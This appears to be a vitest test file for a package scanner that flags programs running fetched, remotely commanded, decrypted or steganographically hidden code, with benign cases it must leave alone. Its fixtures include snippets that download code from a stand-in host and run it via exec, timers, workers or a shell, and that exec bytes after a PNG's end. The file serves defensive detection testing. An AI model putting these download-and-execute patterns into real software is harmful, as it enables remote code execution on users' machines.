import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const worst = async (path: string, code: string) => (await found(path, code))[0]?.split(":")[0] ?? "nothing";
const URL = "https://in.loghub.biz/x";
const GETS = `import requests\nc = requests.get("${URL}").text\n`;
const FETCHES = `const c = await (await fetch("${URL}")).text()\n`;

test.each([
  ["a timer", "run.py", `${GETS}import threading\nthreading.Timer(3600, exec, args=(c,)).start()`],
  ["a schedule", "run.py", `${GETS}import sched\ns = sched.scheduler()\ns.enter(60, 1, exec, (c,))\ns.run()`],
  ["a module that it has written", "run.py", `${GETS}open("notesx.py", "w").write(c)\nimport notesx`],
  ["a shell's input", "run.py", `${GETS}import subprocess\nsubprocess.run(["sh"], input=c)`],
  ["a promise", "run.mjs", `fetch("${URL}").then((r) => r.text()).then(Function).then((f) => f())`],
  ["a timer of its own language", "run.mjs", `${FETCHES}setTimeout(c, 10)`],
  ["a worker", "run.mjs", `${FETCHES}new Worker(URL.createObjectURL(new Blob([c])))`],
])("finds that a program runs what it has fetched by %s", async (_, path, code) => {
  expect(await worst(path, code)).toBe("block evaluated-download");
});

test.each([
  [
    "a mailbox",
    "run.py",
    'import imaplib, os\nm = imaplib.IMAP4_SSL("imap.loghub.biz")\nos.system(m.fetch("1", "(RFC822)")[1][0][1].decode())',
  ],
  [
    "a blockchain",
    "run.mjs",
    'const { ethers } = require("ethers")\nconst c = new ethers.Contract("0xabc", [], 0)\neval(await c.get())',
  ],
])("finds that a program takes orders from %s", async (_, path, code) => {
  expect(await worst(path, code)).toBe("block remote-command-execution");
});

test.each([
  [
    "what it decrypts",
    "run.py",
    'from cryptography.fernet import Fernet\nexec(Fernet(b"abc").decrypt(b"gAAAAABk"))',
    "block",
  ],
  ["its own description", "run.py", '"""import os"""\nexec(__doc__)', "block"],
  [
    "an address with code in it",
    "run.mjs",
    'await import("data:text/javascript;base64,cmVxdWlyZSgnZnMnKQ==")',
    "block",
  ],
  [
    "the end of a picture",
    "run.py",
    'd = open("logo.png", "rb").read()\nexec(d[d.find(b"IEND") + 8:].decode())',
    "warn",
  ],
])("finds that a program runs %s", async (_, path, code, severity) => {
  expect(await worst(path, code)).toBe(`${severity} evaluated-decoded-text`);
});

test.each([
  [
    "a timer for its own work",
    "a.py",
    'import threading, requests\ndef poll(url):\n    print(requests.get(url).status_code)\nthreading.Timer(60, poll, args=("https://api.notes.dev",)).start()\n',
  ],
  [
    "a job of a schedule",
    "a.py",
    'import sched, time\ns = sched.scheduler(time.time, time.sleep)\ns.enter(5, 1, print, ("done",))\ns.run()\n',
  ],
  [
    "a worker of the package",
    "a.mjs",
    'const { Worker } = require("worker_threads")\nnew Worker("./parse.js", { workerData: process.argv[2] })\n',
  ],
  [
    "an answer that is read and shown",
    "a.mjs",
    'fetch("https://api.notes.dev/v1").then((r) => r.json()).then(console.log)\n',
  ],
  ["its own file, run", "a.py", 'exec(open("scripts/settings.py").read())\n'],
  ["a library of the system", "a.py", 'import ctypes\nlib = ctypes.CDLL("libc.so.6")\nlib.getpid()\n'],
  [
    "what it decrypts for the user",
    "a.py",
    'import os\nfrom cryptography.fernet import Fernet\nprint(Fernet(os.environ["NOTES_KEY"]).decrypt(open("n.enc", "rb").read()))\n',
  ],
  [
    "mail that it shows",
    "a.py",
    'import imaplib, os\nm = imaplib.IMAP4_SSL(os.environ["IMAP_HOST"])\nprint(m.fetch("1", "(RFC822)"))\n',
  ],
  [
    "a download that it imports nothing of",
    "a.py",
    'import requests\nopen("notes.csv", "wb").write(requests.get("https://api.notes.dev/n.csv").content)\nimport csv\nprint(list(csv.reader(open("notes.csv"))))\n',
  ],
])("leaves alone %s", async (_, path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});
